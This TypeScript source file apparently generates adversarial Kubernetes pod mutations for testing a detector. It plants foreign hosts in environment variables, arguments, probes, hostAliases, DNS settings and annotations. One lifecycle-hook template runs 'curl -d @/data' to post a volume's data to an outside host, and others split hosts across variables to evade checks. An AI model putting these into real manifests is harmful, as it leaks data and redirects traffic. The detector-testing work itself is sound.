import type { Fields, Path, Value } from '../../engine/types.ts';
import { isFields, isList, stringAt } from '../../subjects/fields.ts';
import { valueAt, withItem, withValue } from '../edit.ts';
import { foreignHost, foreignName, foreignText, type Planted } from '../planted.ts';
import type { Random } from '../random.ts';
import { type AttackClass, type Mutation, PLACE_RULES, type PodTarget, type Target } from '../types.ts';

const VARIABLES = [
  ...[
    'ENDPOINT',
    'UPSTREAM_URL',
    'DATABASE_URL',
    'OTEL_EXPORTER_OTLP_ENDPOINT',
    'HTTPS_PROXY',
    'HF_ENDPOINT',
    'BROKERS',
  ],
  ...[
    'OPENAI_BASE_URL',
    'SENTRY_DSN',
    'S3_ENDPOINT',
    'PIP_INDEX_URL',
    'JAVA_TOOL_OPTIONS',
    'NO_ONE_KNOWS',
    'SMTP_HOST',
  ],
];

/** A pod and one of its containers. */
function place({ pods }: Target, random: Random): { readonly pod: PodTarget; readonly container: Path } | undefined {
  const all = pods.flatMap((pod) => pod.containers.map((container) => ({ pod, container })));
  return all.length === 0 ? undefined : random.pick(all);
}

function mutation(pod: PodTarget, body: Fields, at: Path, where: string, planted: Planted): Mutation {
  const { text, what, because } = planted;
  return { change: { do: 'edit', subject: pod.subject, body }, what: `${where}: ${what}`, value: text, because, at };
}

function planting(
  id: string,
  title: string,
  plant: (pod: PodTarget, container: Path, target: Target, random: Random) => Mutation | undefined,
): AttackClass {
  return {
    id,
    title,
    aim: 'residency',
    caughtBy: PLACE_RULES,
    mutate(target, random) {
      const chosen = place(target, random);
      return chosen && plant(chosen.pod, chosen.container, target, random);
    },
  };
}

const variable = planting('environment', 'a variable of a container', (pod, container, target, random) => {
  const planted = foreignText(target, random);
  const name = random.pick(VARIABLES);
  const added = withItem(pod.subject.body, [...container, 'env'], { name, value: planted.text });
  return mutation(pod, added.body, [...added.path, 'value'], `variable ${name}`, planted);
});

const changedVariable: AttackClass = {
  id: 'environment-changed',
  title: 'a variable that is there already',
  aim: 'residency',
  caughtBy: PLACE_RULES,
  mutate(target, random) {
    const own = target.pods.flatMap((pod) => pod.containers.flatMap((path) => addressesIn(pod, path)));
    if (own.length === 0) return undefined;
    const { pod, at } = random.pick(own);
    const planted = foreignText(target, random);
    return mutation(pod, withValue(pod.subject.body, at, planted.text), at, 'a variable that held another', planted);
  },
};

/** Paths of the values that hold a host or a port now. */
function addressesIn(pod: PodTarget, container: Path): readonly { readonly pod: PodTarget; readonly at: Path }[] {
  const list = valueAt(pod.subject.body, [...container, 'env']);
  return (isList(list) ? list : []).flatMap((item, index) => {
    const text = isFields(item) ? (stringAt(item, 'value') ?? '') : '';
    return /[a-z]\.[a-z]|:\d/.test(text) ? [{ pod, at: [...container, 'env', index, 'value'] }] : [];
  });
}

const split = planting(
  'environment-split',
  'a host put together from several variables',
  (pod, container, target, random) => {
    const host = foreignHost(target, random);
    const cut = 2 + random.whole(host.value.length - 3);
    const parts = [
      { name: 'HOST_A', value: host.value.slice(0, cut) },
      { name: 'HOST_B', value: host.value.slice(cut) },
      { name: 'UPSTREAM_URL', value: 'https://$(HOST_A)$(HOST_B)/v1' },
    ];
    let added = { body: pod.subject.body, path: container };
    for (const part of parts) added = withItem(added.body, [...container, 'env'], part);
    const planted = { text: host.value, what: 'split over two', because: host.because };
    return mutation(pod, added.body, [...added.path, 'value'], 'variables', planted);
  },
);

const argument = planting('arguments', 'an argument or a command', (pod, container, target, random) => {
  const planted = foreignText(target, random);
  const { body } = pod.subject;
  const flag = random.pick(['--upstream', '--otlp-endpoint', '--proxy', '--storage-uri', '-u', '--resolver']);
  const shape = random.whole(3);
  if (shape === 0) {
    const added = withItem(withItem(body, [...container, 'args'], flag).body, [...container, 'args'], planted.text);
    return mutation(pod, added.body, added.path, `argument after ${flag}`, planted);
  }
  const field = shape === 1 ? 'args' : 'command';
  const added = withItem(body, [...container, field], `${flag.replace(/^-u$/, '--url')}=${planted.text}`);
  return mutation(pod, added.body, added.path, field, planted);
});

const HOOKS: readonly (readonly [string, (host: string) => readonly [Path, Value, Path]])[] = [
  ['a hook after the start', (host) => hook('postStart', host)],
  ['a hook before the stop', (host) => hook('preStop', host)],
  [
    'a probe that runs a program',
    (host) => [['livenessProbe'], { exec: { command: ['curl', `https://${host}/`] } }, ['exec', 'command', 1]],
  ],
  [
    'a probe of another host',
    (host) => [['livenessProbe'], { httpGet: { host, port: 443, scheme: 'HTTPS' } }, ['httpGet', 'host']],
  ],
];

function hook(name: string, host: string): readonly [Path, Value, Path] {
  const command = ['sh', '-c', `curl -d @/data https://${host}/`];
  return [['lifecycle', name], { exec: { command } }, ['exec', 'command', 2]];
}

const hooks = planting('hooks', 'a probe or a lifecycle hook', (pod, container, target, random) => {
  const [where, make] = random.pick(HOOKS);
  const host = foreignHost(target, random);
  const [at, value, inside] = make(host.value);
  const path = [...container, ...at];
  const planted = { text: host.value, what: 'as it is', because: host.because };
  return mutation(pod, withValue(pod.subject.body, path, value), [...path, ...inside], where, planted);
});

const aliases = planting(
  'names-of-a-pod',
  'host aliases and name servers of a pod',
  (pod, _container, target, random) => {
    const ip = target.foreign.address(random);
    const planted = { text: ip, what: 'a public address', because: `${ip} is public, and the site does not claim it` };
    const { body } = pod.subject;
    if (random.chance(0.5)) {
      const added = withItem(body, [...pod.path, 'hostAliases'], { ip, hostnames: ['fhir', 'audit'] });
      return mutation(pod, added.body, added.path, 'an alias of a trusted name', planted);
    }
    const none = withValue(body, [...pod.path, 'dnsPolicy'], 'None');
    const added = withItem(none, [...pod.path, 'dnsConfig', 'nameservers'], ip);
    return mutation(pod, added.body, added.path, 'a name server', planted);
  },
);

const search = planting('search-domains', 'a search domain of a pod', (pod, _container, target, random) => {
  const planted = foreignName(target, random);
  const added = withItem(pod.subject.body, [...pod.path, 'dnsConfig', 'searches'], planted.text);
  return mutation(pod, added.body, added.path, 'a search domain, which every short name is completed with', planted);
});

const ANNOTATIONS = [
  ...['sidecar.opentelemetry.io/endpoint', 'vault.hashicorp.com/service', 'nginx.ingress.kubernetes.io/auth-url'],
  ...[
    'instrumentation.datadoghq.com/url',
    'linkerd.io/trace-collector',
    'kubectl.kubernetes.io/last-applied-configuration',
  ],
];

const annotation = planting(
  'annotations',
  'an annotation that a controller acts on',
  (pod, _container, target, random) => {
    const planted = foreignText(target, random);
    const name = random.pick(ANNOTATIONS);
    const isApplied = name.startsWith('kubectl');
    const text = isApplied ? JSON.stringify({ spec: { endpoint: planted.text } }) : planted.text;
    const at = [...pod.path.slice(0, -1), 'metadata', 'annotations', name];
    return mutation(pod, withValue(pod.subject.body, at, text), at, `annotation ${name}`, { ...planted, text });
  },
);

/** Attacks inside pods: variables, arguments, hooks, names. */
export const podClasses: readonly AttackClass[] = [
  ...[variable, changedVariable, split, argument, hooks, aliases, search, annotation],
];
